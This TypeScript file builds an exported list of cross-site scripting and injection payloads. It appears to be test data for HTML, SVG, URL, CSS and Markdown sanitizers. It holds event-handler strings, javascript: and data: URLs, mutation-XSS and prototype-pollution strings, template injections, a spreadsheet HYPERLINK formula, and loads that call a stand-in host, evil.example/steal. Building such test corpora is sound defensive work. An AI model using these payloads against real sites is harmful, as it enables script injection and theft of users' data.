/** Attempts to run code in a page, or to make it load something, by the ways of HTML, SVG, URLs, CSS and Markdown. */

const code = "window.pwned=1";
const elsewhere = "https://evil.example/steal";

const elements = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "details open",
  "marquee",
  "iframe src=/",
  "object data=x",
  "embed src=x",
  "button popovertarget=p autofocus",
  "a href=x style=animation-name:x",
  "math",
  "link rel=stylesheet href=x",
  "x contenteditable tabindex=1 autofocus",
];
const handlers = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onpointerenter",
  "onanimationstart",
  "onbeforetoggle",
];
/** One attribute in the many spellings that parsers take for one. */
const spellings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}="${code}">`,
  (element, handler) => `<${element} ${handler}='${code}'>`,
  (element, handler) => `<${element} ${handler}=${code}>`,
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}=${code}>`,
  (element, handler) => `<${element}\n${handler}\n=\n${code}\n>`,
  (element, handler) => `<${element}/${handler}=${code}//`,
  (element, handler) => `"><${element} ${handler}=${code}>`,
  (element, handler) => `'><${element} ${handler}=&#119;indow.pwned=1>`,
  (element, handler) => `</p></li></td><${element} ${handler}=eval(atob('d2luZG93LnB3bmVkPTE='))>`,
];

const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `\u0001javascript:${code}`,
  `&#106;avascript:${code}`,
  `javascript&colon;${code}`,
  `javascript:%77indow.pwned=1`,
  `data:text/html,<script>opener.pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `vbscript:${code}`,
  elsewhere,
  "//evil.example/steal",
  "\\\\evil.example\\steal",
];
const places: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `![pixel](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][there]\n\n[there]: ${address}`,
  (address) => `<a href="${address}">click</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) =>
    `<iframe src="${address}"></iframe><object data="${address}"></object><embed src="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">send</button></form>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}"><base href="${address}">`,
];

const loads = [
  `<link rel=preload as=script href=${elsewhere}><link rel=dns-prefetch href=//evil.example>`,
  `<link rel=stylesheet href=${elsewhere}><style>@import url(${elsewhere});</style>`,
  `<div style="background:url(${elsewhere})">seen</div><table background=${elsewhere}>`,
  `<video poster=${elsewhere}><source src=${elsewhere}><track src=${elsewhere} default></video>`,
  `<svg><image href=${elsewhere}></image><use xlink:href=${elsewhere}#a></use></svg>`,
  `<picture><source srcset=${elsewhere}><img src=x></picture>`,
  `<script src=${elsewhere}></script><script type=module>import "${elsewhere}"</script>`,
  `<style>body{display:none}@font-face{font-family:x;src:url(${elsewhere})}*{font-family:x}</style>`,
];

const escapes = [
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "</iframe>",
  "-->",
  "]]>",
  "`",
  "\n```\n",
  "*/",
  "?>",
  "</code></pre>",
  "</svg></math>",
].map((escape) => `${escape}<script>${code}</script>`);

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg><style><a id="</style><img src=1 onerror=${code}>"></a></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${code}>">`,
  `<table><td><b><tr><svg><desc><table><td></desc><script>${code}</script>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s><set attributeName=onmouseover to=${code}>`,
  `<svg><script>&#119;indow.pwned=1</script><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<img src=x name=createElement><form id=document><input name=body><input name=attributes>`,
  `<a id=__proto__><a id=constructor><a id=__proto__ name=pwned href=x:1>`,
  `<template shadowrootmode=open><script>${code}</script></template>`,
  `<script>${code}</script>`,
  `<ScRiPt\u0000>${code}</sCrIpT>`,
  `<<script>${code}//<</script>`,
  `{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}`,
  `{"html":"<img src=x onerror=${code}>"}`,
  `{{constructor.constructor('${code}')()}} \${${code}} <%= ${code} %> #{${code}}`,
  `| a | <img src=x onerror=${code}> |\n|---|---|\n| <script>${code}</script> | [x](javascript:${code}) |`,
  `[^1]\n\n[^1]: <img src=x onerror=${code}> [x](javascript:${code})`,
  `![<img src=x onerror=${code}>](x "' onerror=${code}")`,
  `\`\`\`html" onmouseover="${code}\n<script>${code}</script>\n\`\`\``,
  `- [ ] <input onfocus=${code} autofocus>\n\n<details open ontoggle=${code}>`,
  `\u202Egnp.exe \u0000 \uFFFD \u2028<script>${code}</script>\u2029`,
  `=HYPERLINK("${elsewhere}","click")`,
];

/** All of them; every element meets every handler, in one spelling after the other. */
export const hostilePayloads: readonly string[] = [
  ...elements.flatMap((element, row) =>
    handlers.map((handler, column) => {
      const spell = spellings[(row * handlers.length + column) % spellings.length];
      return spell?.(element, handler) ?? "";
    }),
  ),
  ...addresses.flatMap((address) => places.map((place) => place(address))),
  ...loads,
  ...escapes,
  ...mutations,
];
